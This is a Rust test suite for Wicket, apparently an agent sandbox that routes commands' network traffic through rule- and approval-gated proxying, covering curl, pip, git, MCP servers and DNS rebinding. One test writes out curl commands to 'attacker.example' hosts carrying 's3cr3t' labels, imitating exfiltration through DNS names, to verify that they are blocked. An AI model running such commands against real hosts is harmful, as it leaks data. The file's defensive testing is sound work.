//! A command's network through Wicket, through the binary: real clients
//! (curl over HTTP, HTTPS and SOCKS5, pip, git) in the jail, their proxy
//! variables set by the launcher, reaching servers the test starts on
//! 127.0.0.1 only where a rule, a grant or an answered `net` card lets
//! them; every byte counted as the server counts it.

use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};
use wicket_test_support::net::{StaticServer, TLS_BODY, TlsServer, Upstream, have};

use crate::*;

/// The person's config: `curl`, `python3` and `git` may run with a network
/// through Wicket without a card, and `net` rules for the hosts given.
fn config(f: &Fixture, hosts: &[&str]) {
    let mut text = String::new();
    for program in ["curl", "sh", "python3", "git"] {
        text.push_str(&format!(
            "[[rules]]\naction = \"allow\"\ntool = \"run\"\nargv_prefix = [\"{program}\"]\nnetwork = true\n\n"
        ));
    }
    for host in hosts {
        text.push_str(&format!(
            "[[rules]]\naction = \"allow\"\ntool = \"net\"\nhost = \"{host}\"\n\n"
        ));
    }
    std::fs::write(f.home.join("config.toml"), text).unwrap();
}

/// `run` with a network through Wicket, in session `session`, its cards
/// answered `answer`: every line it printed (cards, then the result).
fn networked(f: &Fixture, argv: &[&str], session: &str, answer: &str) -> Vec<Value> {
    let args = json!({"argv": argv, "network": true});
    let (out, code) = f.tool(
        "run",
        &args.to_string(),
        &["--session", session, "--answers", answer],
    );
    assert_eq!(code, 0, "{out:#?}");
    out
}

fn cards(out: &[Value]) -> Vec<&Value> {
    out.iter().filter(|line| line["type"] == "card").collect()
}

fn result(out: &[Value]) -> &Value {
    out.last().unwrap()
}

/// The session's `net` events.
fn net_events(f: &Fixture, session: &str) -> Vec<Value> {
    std::fs::read_to_string(f.home.join("sessions").join(session).join("log.jsonl"))
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap())
        .filter(|event| event["type"] == "net")
        .collect()
}

const BODY: &[u8] = b"one file, served through Wicket\n";

/// A workspace whose config has `net` rules for `hosts`, a server of
/// [`BODY`] on 127.0.0.1, and its URL by the name `localhost`; none where
/// curl is missing (and the tests may skip).
fn served(hosts: &[&str]) -> Option<(Fixture, Upstream, String)> {
    if !have("curl") {
        return None;
    }
    let f = Fixture::new();
    config(&f, hosts);
    let upstream = Upstream::start(BODY);
    let url = format!("http://localhost:{}/", upstream.port());
    Some((f, upstream, url))
}

#[test]
fn curl_reaches_a_host_a_rule_allows_and_every_byte_is_counted() {
    if !have("curl") {
        return;
    }
    let f = Fixture::new();
    config(&f, &["localhost"]);
    let upstream = Upstream::start(BODY);
    let url = format!("http://localhost:{}/file", upstream.port());
    // No card at all: any would be denied.
    let out = networked(&f, &["curl", "-s", "-S", &url], "s", "deny");
    assert!(cards(&out).is_empty(), "{out:#?}");
    let ran = result(&out);
    assert_eq!(
        ran["stdout"],
        String::from_utf8_lossy(BODY).as_ref(),
        "{ran:#}"
    );
    let served = upstream.served(1).remove(0);
    assert_eq!(
        ran["net"],
        json!([{"host": "localhost", "port": upstream.port(), "sent": served.received, "received": served.sent}]),
        "{ran:#}"
    );
    let events = net_events(&f, "s");
    assert_eq!(events.len(), 1, "{events:#?}");
    assert_eq!(events[0]["sent"], served.received);
    assert_eq!(events[0]["received"], served.sent);
    assert!(events[0]["allowed_by"]["rule"].is_string(), "{events:#?}");
    assert_eq!(
        events[0]["address"],
        format!("127.0.0.1:{}", upstream.port())
    );
}

#[test]
fn curl_tunnels_https_and_socks5_through_wicket() {
    if !(have("curl") && have("openssl") && have("python3")) {
        return;
    }
    let f = Fixture::new();
    config(&f, &["localhost"]);
    let server = TlsServer::start();
    // The jail shows the command the workspace, not the test's /tmp.
    std::fs::copy(&server.ca, f.ws.join("ca.pem")).unwrap();
    let url = format!("https://localhost:{}/", server.port);
    let out = networked(
        &f,
        &["curl", "-s", "-S", "--cacert", "ca.pem", &url],
        "s",
        "deny",
    );
    assert!(cards(&out).is_empty(), "{out:#?}");
    assert_eq!(result(&out)["stdout"], TLS_BODY, "{out:#?}");
    let upstream = Upstream::start(BODY);
    let script = format!(
        "curl -s -S --proxy \"$ALL_PROXY\" http://localhost:{}/",
        upstream.port()
    );
    let out = networked(&f, &["sh", "-c", &script], "s", "deny");
    assert_eq!(
        result(&out)["stdout"],
        String::from_utf8_lossy(BODY).as_ref(),
        "{out:#?}"
    );
    assert!(result(&out)["net"][0]["sent"].as_u64().unwrap() > 0);
}

#[test]
fn a_host_no_rule_names_is_a_net_card_and_denied_reaches_nothing() {
    let Some((f, upstream, url)) = served(&[]) else {
        return;
    };
    let argv = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", &url];
    let out = networked(&f, &argv, "s", "deny");
    let cards = cards(&out);
    assert_eq!(cards.len(), 1, "{out:#?}");
    let card = cards[0];
    assert_eq!(card["kind"], "net");
    assert_eq!(card["host"], "localhost");
    assert_eq!(card["port"], upstream.port());
    assert!(
        card.get("local").is_none() && card.get("addresses").is_none(),
        "decided by its name, before any lookup: {card:#}"
    );
    assert_eq!(card["argv"], json!(argv));
    assert_eq!(result(&out)["stdout"], "403", "{out:#?}");
    assert_eq!(upstream.accepts(), 0, "no byte reached the server");
    let events = net_events(&f, "s");
    assert!(events[0]["refused"].is_string(), "{events:#?}");
}

#[test]
fn policy_check_replays_each_connection_against_todays_rules() {
    let Some((f, upstream, url)) = served(&[]) else {
        return;
    };
    networked(&f, &["curl", "-s", &url], "s", "deny");
    let check = |expected: &str| {
        let output = wicket()
            .env("WICKET_HOME", &f.home)
            .args(["policy", "check", "s"])
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&output.stdout).to_string();
        let line = text
            .lines()
            .find(|line| line.contains(&format!("net localhost:{}", upstream.port())))
            .unwrap_or_else(|| panic!("no net line: {text}"));
        assert!(line.ends_with(expected), "{line}");
    };
    check("card");
    config(&f, &["localhost"]);
    check("allowed by rule config-5");
}

#[test]
fn a_host_that_is_not_a_host_pattern_is_a_config_error_naming_the_file() {
    let f = Fixture::new();
    std::fs::write(
        f.home.join("config.toml"),
        "[[rules]]\naction = \"allow\"\ntool = \"net\"\nhost = \"https://pypi.org/simple\"\n",
    )
    .unwrap();
    let output = f
        .command("run", &json!({"argv": ["true"]}).to_string(), &[])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success());
    assert!(stderr.contains("config.toml"), "{stderr}");
    assert!(
        stderr.contains("host = \"https://pypi.org/simple\""),
        "{stderr}"
    );
}

#[test]
fn allowed_for_the_session_a_second_command_reaches_the_host_without_a_card() {
    let Some((f, upstream, url)) = served(&[]) else {
        return;
    };
    let first = networked(&f, &["curl", "-s", &url], "s", "allow_session");
    assert_eq!(
        cards(&first).len(),
        2,
        "the name, then its local address: {first:#?}"
    );
    assert_eq!(
        result(&first)["stdout"],
        String::from_utf8_lossy(BODY).as_ref()
    );
    let second = networked(&f, &["curl", "-s", &url], "s", "deny");
    assert!(cards(&second).is_empty(), "{second:#?}");
    assert_eq!(
        result(&second)["stdout"],
        String::from_utf8_lossy(BODY).as_ref()
    );
    assert_eq!(upstream.accepts(), 2);
}

#[test]
fn a_rule_for_one_name_never_covers_another_name_of_the_same_address() {
    if !have("curl") {
        return;
    }
    let f = Fixture::new();
    config(&f, &["localhost", "*"]);
    let upstream = Upstream::start(BODY);
    let url = format!("http://127.0.0.1:{}/", upstream.port());
    let argv = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", &url];
    let out = networked(&f, &argv, "s", "deny");
    let cards = cards(&out);
    assert_eq!(cards.len(), 1, "{out:#?}");
    assert_eq!(cards[0]["host"], "127.0.0.1");
    assert_eq!(cards[0]["local"], true);
    assert_eq!(result(&out)["stdout"], "403");
    assert_eq!(upstream.accepts(), 0);
}

/// A wheel with nothing in it but its metadata.
fn wheel(path: &Path) {
    let script = r#"
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as wheel:
    wheel.writestr("wicketprobe/__init__.py", "")
    wheel.writestr("wicketprobe-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: wicketprobe\nVersion: 1.0\n")
    wheel.writestr("wicketprobe-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: wicket-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("wicketprobe-1.0.dist-info/RECORD", "")
"#;
    let status = Command::new("python3")
        .args(["-c", script])
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success());
}

#[test]
fn pip_downloads_from_a_local_index_through_wicket() {
    if !have("python3") {
        return;
    }
    let f = Fixture::new();
    config(&f, &["localhost"]);
    let index = f.root.join("index");
    let name = "wicketprobe-1.0-py3-none-any.whl";
    std::fs::create_dir_all(index.join("simple/wicketprobe")).unwrap();
    std::fs::create_dir_all(index.join("packages")).unwrap();
    wheel(&index.join("packages").join(name));
    std::fs::write(
        index.join("simple/wicketprobe/index.html"),
        format!("<html><body><a href=\"../../packages/{name}\">{name}</a></body></html>\n"),
    )
    .unwrap();
    let server = StaticServer::start(&index);
    let url = format!("http://localhost:{}/simple/", server.port);
    let argv = [
        "python3",
        "-m",
        "pip",
        "download",
        "--no-cache-dir",
        "--disable-pip-version-check",
        "--no-deps",
        "--index-url",
        &url,
        "--dest",
        "downloaded",
        "wicketprobe",
    ];
    let out = networked(&f, &argv, "s", "deny");
    assert!(cards(&out).is_empty(), "{out:#?}");
    assert_eq!(result(&out)["exit_code"], 0, "{out:#?}");
    assert!(f.ws.join("downloaded").join(name).is_file(), "{out:#?}");
    assert!(!result(&out)["net"].as_array().unwrap().is_empty());
}

#[test]
fn git_clones_over_dumb_http_through_wicket() {
    if !(have("git") && have("python3")) {
        return;
    }
    let f = Fixture::new();
    config(&f, &["localhost"]);
    let served = f.root.join("served");
    let source = f.root.join("source");
    std::fs::create_dir_all(&served).unwrap();
    std::fs::create_dir_all(&source).unwrap();
    let git = |dir: &Path, args: &[&str]| {
        let output = Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .unwrap();
        assert!(output.status.success(), "git {args:?}: {output:?}");
    };
    std::fs::write(source.join("README"), "cloned through Wicket\n").unwrap();
    git(&source, &["init", "-q"]);
    git(&source, &["add", "README"]);
    git(&source, &["commit", "-q", "-m", "first"]);
    git(
        &served,
        &[
            "clone",
            "-q",
            "--bare",
            source.to_str().unwrap(),
            "repo.git",
        ],
    );
    git(&served.join("repo.git"), &["update-server-info"]);
    let server = StaticServer::start(&served);
    let url = format!("http://localhost:{}/repo.git", server.port);
    let out = networked(&f, &["git", "clone", "-q", &url, "cloned"], "s", "deny");
    assert!(cards(&out).is_empty(), "{out:#?}");
    assert_eq!(result(&out)["exit_code"], 0, "{out:#?}");
    assert_eq!(
        std::fs::read_to_string(f.ws.join("cloned/README")).unwrap(),
        "cloned through Wicket\n"
    );
}

#[test]
fn direct_network_says_so_on_its_card() {
    let f = Fixture::new();
    let args = json!({"argv": ["true"], "network": "direct"});
    let (out, _) = f.tool("run", &args.to_string(), &["--answers", "deny"]);
    assert_eq!(out[0]["network"], "direct", "{:#}", out[0]);
    assert!(
        out[0]["sandbox"]["summary"]
            .as_str()
            .unwrap()
            .contains("direct network: any host, not through Wicket"),
        "{:#}",
        out[0]
    );
}

/// A stdio MCP server in Python with one tool, `fetch`, which reads a URL
/// with urllib (which takes the proxy from the environment, as most
/// servers' HTTP clients do).
const FETCH_SERVER: &str = r#"
import json, sys, urllib.request
def reply(id, result):
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": id, "result": result}) + "\n")
    sys.stdout.flush()
for line in sys.stdin:
    message = json.loads(line)
    method, id = message.get("method"), message.get("id")
    if method == "initialize":
        reply(id, {"protocolVersion": message["params"]["protocolVersion"], "capabilities": {"tools": {}},
                   "serverInfo": {"name": "fetch", "version": "1"}})
    elif method == "tools/list":
        reply(id, {"tools": [{"name": "fetch", "description": "Reads a URL",
                              "inputSchema": {"type": "object", "properties": {"url": {"type": "string"}}}}]})
    elif method == "tools/call":
        try:
            body = urllib.request.urlopen(message["params"]["arguments"]["url"], timeout=30).read().decode()
            reply(id, {"content": [{"type": "text", "text": body}]})
        except Exception as error:
            reply(id, {"content": [{"type": "text", "text": "failed: %s" % error}], "isError": True})
    elif id is not None:
        reply(id, {})
"#;

#[test]
fn an_mcp_servers_connections_go_through_wicket_on_a_card_that_names_it() {
    if !(have("python3") && have("curl")) {
        return;
    }
    let f = Fixture::new();
    // The server's script lies in the workspace: the jail hides the test's /tmp.
    std::fs::write(f.ws.join("fetch_server.py"), FETCH_SERVER).unwrap();
    std::fs::write(
        f.home.join("config.toml"),
        format!(
            "[mcp_servers.fetcher]\ncommand = \"python3\"\nargs = [{:?}]\nnetwork = true\nauto_allow = [\"fetch\"]\n",
            f.ws.join("fetch_server.py").display().to_string()
        ),
    )
    .unwrap();
    let upstream = Upstream::start(BODY);
    let url = format!("http://localhost:{}/", upstream.port());
    let call = |answer: &str| {
        let output = wicket()
            .env("WICKET_HOME", &f.home)
            .args(["mcp", "call", "fetcher", "fetch"])
            .arg(json!({"url": url}).to_string())
            .args(["--workspace"])
            .arg(&f.ws)
            .args(["--session", "m", "--answers", answer])
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        lines(&output)
    };
    let denied = call("deny");
    let card = denied
        .iter()
        .find(|line| line["type"] == "card")
        .unwrap_or_else(|| panic!("no net card: {denied:#?}"));
    assert_eq!(card["kind"], "net");
    assert_eq!(card["server"], "fetcher");
    assert_eq!(card["host"], "localhost");
    assert_eq!(upstream.accepts(), 0, "a denied host saw nothing");
    let allowed = call("allow_once");
    let text = allowed.last().unwrap().to_string();
    assert!(
        text.contains("one file, served through Wicket"),
        "{allowed:#?}"
    );
    let events = net_events(&f, "m");
    assert!(
        events
            .iter()
            .any(|event| event["server"] == "fetcher" && event["refused"].is_null()),
        "{events:#?}"
    );
}

#[test]
fn allow_once_lets_a_host_for_the_rest_of_the_command_and_always_saves_a_net_rule() {
    let Some((f, upstream, url)) = served(&[]) else {
        return;
    };
    let twice = format!("curl -s {url}; curl -s {url}");
    let out = networked(&f, &["sh", "-c", &twice], "s", "allow_once");
    let asked = cards(&out);
    assert_eq!(
        asked.len(),
        2,
        "one card for the name, one for the local address it resolved to: {out:#?}"
    );
    assert!(asked[0].get("local").is_none() && asked[1]["local"] == true);
    assert_eq!(upstream.accepts(), 2);
    // The next command asks again; allow_always saves the rule that ends that.
    let out = networked(&f, &["curl", "-s", &url], "s", "allow_always");
    assert_eq!(cards(&out).len(), 1, "{out:#?}");
    let saved = std::fs::read_to_string(f.home.join("rules.toml")).unwrap();
    assert!(saved.contains("tool = \"net\""), "{saved}");
    assert!(saved.contains("host = \"localhost\""), "{saved}");
    assert!(
        saved.contains(&format!("port = {}", upstream.port())),
        "{saved}"
    );
    let out = networked(&f, &["curl", "-s", &url], "t", "deny");
    assert!(cards(&out).is_empty(), "{out:#?}");
    assert_eq!(
        result(&out)["stdout"],
        String::from_utf8_lossy(BODY).as_ref()
    );
}

#[test]
fn the_request_after_a_command_that_found_no_network_tells_the_model_to_ask_for_it() {
    use wicket_fake::{FakeReply, FakeServer, Step, Wire};
    if !have("curl") {
        return;
    }
    let f = Fixture::new();
    let fake = FakeServer::start(Wire::OpenAi);
    fake.push(Step::Reply(FakeReply::tool_call(
        "c1",
        "run",
        json!({"argv": ["curl", "-sS", "http://example.invalid/"]}).to_string(),
    )));
    fake.push(Step::Reply(FakeReply::text("done")));
    let output = crate::exec::exec(
        &f,
        "fetch it",
        &[
            "--model",
            "openai:gpt-test",
            "--json",
            "--answers",
            "allow_once",
        ],
    )
    .env("OPENAI_BASE_URL", fake.base_url())
    .env("OPENAI_API_KEY", "test-key")
    .stdin(std::process::Stdio::null())
    .output()
    .unwrap();
    assert!(output.status.success(), "{output:?}");
    let requests = fake.requests();
    let messages = requests.last().unwrap().body["messages"].clone();
    let result = messages
        .as_array()
        .unwrap()
        .iter()
        .find(|message| message["role"] == "tool")
        .unwrap_or_else(|| panic!("no tool result: {messages:#}"));
    let result: Value = serde_json::from_str(result["content"].as_str().unwrap()).unwrap();
    let note = result["note"].as_str().unwrap_or_default();
    assert!(
        note.contains("no network") && note.contains("\"network\": true"),
        "{result:#}"
    );
}

/// Runs `wicket tool run ARGS` (in session `s` of `f`, each card answered
/// with the next of `answers`) in a network of its own: [`in_a_network`].
fn in_a_network_of_its_own(f: &Fixture, args: Value, names: Value, answers: &[&str]) -> Value {
    let ws = f.ws.display().to_string();
    let wicket = [
        "tool",
        "run",
        &args.to_string(),
        "--workspace",
        &ws,
        "--session",
        "s",
        "--answers",
        "stdin",
    ];
    in_a_network(f, &wicket, names, answers)
}

/// Runs `wicket WICKET…` (with `f`'s home) in a network of its own that the
/// test makes (`tests/dns/netns.py`, under `unshare`): a name server on
/// 127.0.0.1 that answers `names` and logs every name it is asked, and a
/// service on 127.0.0.1 that logs each connection (`{port}` in an argument
/// is its port). Each card the command prints is answered with the next of
/// `answers`. The report: `queries`, `accepts`, `lines`, `stderr`, `code`.
fn in_a_network(f: &Fixture, wicket: &[&str], names: Value, answers: &[&str]) -> Value {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/dns/netns.py");
    let mut command = vec![env!("CARGO_BIN_EXE_wicket")];
    command.extend_from_slice(wicket);
    let spec = json!({
        "names": names,
        "answers": answers,
        "command": command,
        "env": {"WICKET_HOME": f.home, "NO_COLOR": "1"},
    });
    let spec_path = f.root.join("netns.json");
    std::fs::write(&spec_path, spec.to_string()).unwrap();
    let mut unshare = Command::new("unshare");
    // Root makes the namespaces itself; anyone else in a user namespace of their own.
    if !rustix::process::geteuid().is_root() {
        unshare.args(["--user", "--map-root-user"]);
    }
    let output = unshare
        .args(["--net", "--mount", "python3"])
        .arg(&script)
        .arg(&spec_path)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "the test's network could not be made: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| {
        panic!(
            "{error}: {}\n{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

fn asked_names(report: &Value) -> Vec<String> {
    report["queries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|query| query["name"].as_str().unwrap().to_string())
        .collect()
}

fn net_cards(report: &Value) -> Vec<Value> {
    report["lines"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|line| line["type"] == "card" && line["kind"] == "net")
        .cloned()
        .collect()
}

#[test]
fn a_name_no_one_allowed_is_never_sent_to_a_name_server() {
    if !(have("curl") && have("python3") && have("unshare") && have("ip")) {
        return;
    }
    let f = Fixture::new();
    config(&f, &[]);
    let mut rules = std::fs::read_to_string(f.home.join("config.toml")).unwrap();
    rules.push_str("[[rules]]\naction = \"deny\"\ntool = \"net\"\nhost = \"*.ruled.example\"\n");
    std::fs::write(f.home.join("config.toml"), rules).unwrap();
    let names = json!({"allowed.example": ["93.184.216.34"]});
    // Denied at its card, by a deny rule, and over SOCKS5 (socks5h: the
    // proxy resolves); then one name allowed, the control that shows the
    // name server is the one Wicket asks.
    let script = "curl -s -S -m 5 http://s3cr3t-card.attacker.example/; \
                  curl -s -S -m 5 http://s3cr3t-rule.ruled.example/; \
                  curl -s -S -m 5 --proxy \"$ALL_PROXY\" http://s3cr3t-socks.attacker.example/; \
                  curl -s -S -m 5 http://allowed.example/";
    let report = in_a_network_of_its_own(
        &f,
        json!({"argv": ["sh", "-c", script], "network": true}),
        names,
        &["deny", "deny", "allow_once"],
    );
    assert_eq!(report["code"], 0, "{report:#}");
    let cards = net_cards(&report);
    let hosts: Vec<&str> = cards
        .iter()
        .map(|card| card["host"].as_str().unwrap())
        .collect();
    assert_eq!(
        hosts,
        [
            "s3cr3t-card.attacker.example",
            "s3cr3t-socks.attacker.example",
            "allowed.example"
        ],
        "{report:#}"
    );
    assert!(
        cards.iter().all(|card| card.get("addresses").is_none()),
        "a card on a name shows no address: nothing was looked up: {cards:#?}"
    );
    let asked = asked_names(&report);
    assert!(
        asked.iter().all(|name| !name.contains("s3cr3t")),
        "a name no one allowed reached the name server: {asked:?}"
    );
    assert!(
        asked.iter().any(|name| name == "allowed.example"),
        "the allowed name was looked up, by this name server: {asked:?}"
    );

    // A preview has no network, and looks nothing up (no rule here: the
    // run card is answered `preview`; exec's session keeps the checkpoints
    // a preview is made from).
    let g = Fixture::new();
    let model = crate::exec::script(
        &g,
        "preview.json",
        json!([
            {"tool_calls": [{"name": "run", "arguments": {
                "argv": ["curl", "-s", "-S", "-m", "5", "http://s3cr3t-preview.attacker.example/"],
                "network": true, "preview": true
            }}]},
            {"text": "done"}
        ]),
    );
    let ws = g.ws.display().to_string();
    let report = in_a_network(
        &g,
        &[
            "exec",
            "go",
            "--workspace",
            &ws,
            "--model",
            &model,
            "--json",
            "--answers",
            "stdin",
        ],
        json!({}),
        &["preview", "discard"],
    );
    let effects = report["lines"]
        .as_array()
        .unwrap()
        .iter()
        .find(|line| line["kind"] == "effects")
        .cloned()
        .unwrap_or_else(|| panic!("no effects card: {report:#}"));
    assert_eq!(
        effects["wanted_hosts"],
        json!(["s3cr3t-preview.attacker.example:80"]),
        "{effects:#}"
    );
    assert_eq!(report["queries"], json!([]), "{report:#}");
}

#[test]
fn a_name_whose_answer_turns_local_needs_a_card_of_its_own() {
    if !(have("curl") && have("python3") && have("unshare") && have("ip")) {
        return;
    }
    let f = Fixture::new();
    config(&f, &[]);
    // The first answer is on the internet (unreachable here), the next is
    // this machine, where a local-only service listens.
    let names = json!({"flip.example": ["93.184.216.34", "127.0.0.1"]});
    let script = "curl -s -S -m 5 http://flip.example:{port}/; \
                  curl -s -S -m 5 http://flip.example:{port}/";
    let args = json!({"argv": ["sh", "-c", script], "network": true});
    let report = in_a_network_of_its_own(&f, args.clone(), names.clone(), &["allow_once", "deny"]);
    let cards = net_cards(&report);
    assert_eq!(cards.len(), 2, "{report:#}");
    assert!(cards[0].get("local").is_none(), "{:#}", cards[0]);
    assert_eq!(cards[1]["local"], true, "{:#}", cards[1]);
    assert_eq!(
        cards[1]["addresses"],
        json!(["127.0.0.1"]),
        "{:#}",
        cards[1]
    );
    assert_eq!(
        report["accepts"],
        json!([]),
        "allow_once for the name did not open the local service: {report:#}"
    );
    // Allowed at its own card, the local service is reached.
    let report = in_a_network_of_its_own(&f, args, names, &["allow_once", "allow_once"]);
    assert_eq!(net_cards(&report).len(), 2, "{report:#}");
    assert_eq!(report["accepts"].as_array().unwrap().len(), 1, "{report:#}");
}
